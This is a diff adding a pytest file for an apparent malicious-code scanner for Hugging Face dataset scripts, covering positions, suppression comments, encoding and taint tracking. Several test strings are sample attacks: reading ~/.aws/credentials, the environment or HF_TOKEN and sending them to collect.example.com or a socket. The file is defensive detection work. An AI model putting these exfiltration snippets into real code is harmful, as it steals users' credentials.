@@ -1,0 +1,215 @@
+"""The python-format analyzer and the editor entry point: positions, repair, suppression, limits."""
+
+from __future__ import annotations
+
+import libcst as cst
+import libcst.metadata as md
+import pytest
+
+from malhug.analyzers import formats
+from malhug.analyzers.dispatch import scan_source
+from malhug.analyzers.limits import Limits
+from malhug.analyzers.scripts import positions
+from malhug.analyzers.scripts.analyzer import analyze_text, decode_source
+from malhug.analyzers.scripts.suppress import is_suppressed
+from malhug.analyzers.source import BytesSource
+from malhug.core.model import Category, Verdict
+from tests.scripts.benign_sources import BENIGN
+from tests.scripts.corpus_scripts import CORPUS_SCRIPTS
+from tests.scripts.helpers import by_rule, line_of
+
+
+@pytest.mark.parametrize("name", ["Besthpz/best", "Yash2998db/stan_small", "guaixiaomei/teyd"])
+def test_positions_match_libcst_position_provider(name: str) -> None:
+    module = cst.parse_module(CORPUS_SCRIPTS[name])
+    wrapper = md.MetadataWrapper(module, unsafe_skip_copy=True)
+    expected = wrapper.resolve(md.PositionProvider)
+    nodes = [n for n in expected if isinstance(n, cst.Call | cst.Name | cst.SimpleString | cst.Attribute | cst.Assign)]
+    got = positions.resolve(module, nodes)
+    assert len(got) == len(nodes)
+    for node in nodes:
+        rng = expected[node]
+        assert got[id(node)] == (rng.start.line, rng.start.column, rng.end.line, rng.end.column)
+
+
+def test_location_is_one_based_and_end_exclusive() -> None:
+    code = "import os\nif True:\n    x = (os.system('id'))\n"
+    (f,) = by_rule(analyze_text(code), "MH505")
+    assert (f.location.line, f.location.column, f.location.end_line, f.location.end_column) == (3, 10, 3, 25)
+    assert code.splitlines()[2][f.location.column - 1 : f.location.end_column - 1] == "os.system('id')"
+
+
+def test_multiline_call_range() -> None:
+    code = "import subprocess\nsubprocess.run(\n    ['id'],\n    check=True,\n)\n"
+    (f,) = by_rule(analyze_text(code), "MH505")
+    assert (f.location.line, f.location.column, f.location.end_line, f.location.end_column) == (2, 1, 5, 2)
+
+
+HALF_TYPED = [
+    ("import os\nos.system('id')\nx = foo(\n", 2),
+    ("import os\ndef f(:\n    pass\nos.system('id')\n", 4),
+    ("import os\nclass A:\n    def f(self):\n        y = \n        os.system('id')\n", 5),
+    ("import os\nos.system('id')\nif x\n", 2),
+    ("import os\nos.system('id')\nprint('unterminated\n", 2),
+    ("import os\nos.system('id')\nfor\n", 2),
+    ("import os\n    os.system('whoami')\nos.system('id')\n", 3),
+]
+
+
+@pytest.mark.parametrize(("code", "line"), HALF_TYPED)
+def test_half_typed_code_never_raises_and_keeps_the_rest(code: str, line: int) -> None:
+    findings = analyze_text(code)
+    assert line in {f.location.line for f in by_rule(findings, "MH505")}
+    assert not by_rule(findings, "MH514"), "the editor shows its own syntax errors"
+    for f in findings:
+        assert f.location.line is not None and f.location.line <= code.count("\n") + 1
+
+
+@pytest.mark.parametrize(
+    "code", ["", "\n\n", "x = (", "def", "'''", "\\", "\x00", "class A(:\n  pass", "lambda: (yield)", "@\n"]
+)
+def test_garbage_never_raises_and_reports_nothing_false(code: str) -> None:
+    assert [f for f in analyze_text(code) if f.rule != "MH512"] == []
+
+
+def test_suppression_comments() -> None:
+    code = (
+        "import os\n"
+        "os.system('id')  # malhug: ignore[MH505]\n"
+        "os.system('whoami')  # malhug: ignore\n"
+        "os.system('uname')  # malhug: ignore[MH501]\n"
+        "os.system('ls')\n"
+    )
+    lines = [f.location.line for f in by_rule(analyze_text(code), "MH505")]
+    assert lines == [4, 5]
+    text_lines = code.splitlines()
+    assert is_suppressed(text_lines, 2, "MH505") and not is_suppressed(text_lines, 2, "MH506")
+    assert is_suppressed(text_lines, 3, "MH701")
+    assert not is_suppressed(text_lines, 5, "MH505")
+    assert not is_suppressed(text_lines, 0, "MH505") and not is_suppressed(text_lines, 99, "MH505")
+    assert is_suppressed(["x  #MALHUG: IGNORE[mh505 , MH506]"], 1, "MH506")
+
+
+def test_suppression_on_last_line_of_a_multiline_call() -> None:
+    code = "import subprocess\nsubprocess.run(\n    ['id'],\n)  # malhug: ignore[MH505]\n"
+    assert not by_rule(analyze_text(code), "MH505")
+
+
+def test_decode_source_falls_back_to_latin1() -> None:
+    assert decode_source("x = 'é'\n".encode()) == "x = 'é'\n"
+    assert decode_source(b"# \xe9\xff\nimport os\n") == "# éÿ\nimport os\n"
+    assert decode_source(b"\xef\xbb\xbfimport os\n") == "import os\n"
+
+
+def test_latin1_file_is_analyzed() -> None:
+    data = b"# commentaire \xe9\nimport os\nos.system('id')\n"
+    report = scan_source(BytesSource(data), name="x.py", format_hint=formats.PYTHON)
+    (f,) = by_rule(report.findings, "MH505")
+    assert f.location.line == 3 and report.verdict is Verdict.MALICIOUS
+
+
+def test_source_size_limit_is_mh902() -> None:
+    report = scan_source(
+        BytesSource(b"x = 1\n" * 100), name="x.py", format_hint=formats.PYTHON, limits=Limits(max_source_bytes=100)
+    )
+    assert [f.rule for f in report.findings] == ["MH902"] and report.verdict is not Verdict.CLEAN
+
+
+@pytest.mark.parametrize("name", sorted(BENIGN))
+def test_benign_scripts_and_remote_code_are_clean(name: str) -> None:
+    report = scan_source(BytesSource(BENIGN[name].encode()), name=f"{name}.py", format_hint=formats.PYTHON)
+    assert report.verdict is Verdict.CLEAN, [(f.rule, f.message) for f in report.findings]
+    assert all(f.rule in ("MH512", "MH515") for f in report.findings)
+
+
+def test_subprocess_import_alone_is_info() -> None:
+    (f,) = analyze_text(BENIGN["subprocess_import_only"])
+    assert f.rule == "MH512" and f.severity.value == "info" and f.location.line == 1
+
+
+def test_module_level_and_builder_side_effects_are_marked() -> None:
+    code = (
+        "import os, datasets\n"
+        "os.system('id')\n"
+        "class B(datasets.GeneratorBasedBuilder):\n"
+        "    def _split_generators(self, dl_manager):\n"
+        "        os.system('whoami')\n"
+        "    def helper(self):\n"
+        "        os.system('uname')\n"
+        "def unused():\n"
+        "    os.system('ls')\n"
+        "if __name__ == '__main__':\n"
+        "    os.system('hostname')\n"
+    )
+    msgs = {f.location.line: f.message for f in by_rule(analyze_text(code), "MH505")}
+    assert msgs[2].endswith("(runs on import)")
+    assert msgs[5].endswith("(runs when the dataset is loaded: B._split_generators)")
+    assert msgs[7].endswith("(in B.helper())")
+    assert msgs[9].endswith("(in unused())")
+    assert msgs[11].endswith("(runs when the file is executed as a script)")
+
+
+def test_taint_through_self_attributes_across_builder_methods() -> None:
+    code = (
+        "import os, requests, datasets\n"
+        "class B(datasets.GeneratorBasedBuilder):\n"
+        "    def __init__(self, **kw):\n"
+        "        self.secret = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+        "        super().__init__(**kw)\n"
+        "    def _info(self):\n"
+        "        payload = {'k': self.secret}\n"
+        "        requests.post('https://collect.example.com', json=payload)\n"
+    )
+    findings = analyze_text(code)
+    (sent,) = by_rule(findings, "MH503")
+    assert sent.category is Category.CREDENTIAL_THEFT and sent.location.line == 8
+    assert [s.location.line for s in sent.trace] == [4, 4, 7, 8]
+    assert "stored in B.secret" in [s.message for s in sent.trace]
+
+
+def test_taint_through_function_arguments_and_returns() -> None:
+    code = (
+        "import os, socket\n"
+        "def collect():\n"
+        "    return dict(os.environ)\n"
+        "def ship(data):\n"
+        "    s = socket.socket()\n"
+        "    s.connect(('127.0.0.1', 9))\n"
+        "    s.sendall(str(data).encode())\n"
+        "ship(collect())\n"
+    )
+    (sent,) = by_rule(analyze_text(code), "MH503")
+    assert sent.category is Category.CREDENTIAL_THEFT and sent.location.line == 7
+    assert "the whole environment" in sent.message
+    assert [s.location.line for s in sent.trace] == [3, 3, 8, 7]
+
+
+def test_format_percent_join_fstring_propagation() -> None:
+    code = (
+        "import os, requests, socket\n"
+        "h = socket.gethostname()\n"
+        "a = 'host=%s' % h\n"
+        "b = 'x{}'.format(a)\n"
+        "c = '&'.join([b, 'y'])\n"
+        "requests.get(f'https://collect.example.com/?{c}')\n"
+    )
+    (sent,) = by_rule(analyze_text(code), "MH503")
+    assert sent.category is Category.EXFILTRATION and "(in the url)" in sent.message
+    assert [s.location.line for s in sent.trace] == [2, 2, 3, 4, 5, 6]
+
+
+def test_hf_token_to_the_hub_is_not_theft_but_to_elsewhere_is() -> None:
+    ok = "import os, requests\nt = os.environ['HF_TOKEN']\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'authorization': f'Bearer {t}'})\n"
+    assert not by_rule(analyze_text(ok), "MH503")
+    bad = ok.replace("https://huggingface.co/api/whoami-v2", "https://collect.example.com/")
+    (sent,) = by_rule(analyze_text(bad), "MH503")
+    assert sent.category is Category.CREDENTIAL_THEFT and sent.severity.value == "critical"
+
+
+def test_long_benign_script_stays_clean_and_late_findings_keep_their_line() -> None:
+    body = BENIGN["generator_builder"]
+    code = (body + "\n") * (2000 // body.count("\n") + 1)
+    assert analyze_text(code) == []
+    code += "import os\nos.system('id')\n"
+    (f,) = by_rule(analyze_text(code), "MH505")
+    assert f.location.line == line_of(code, "os.system('id')") > 2000
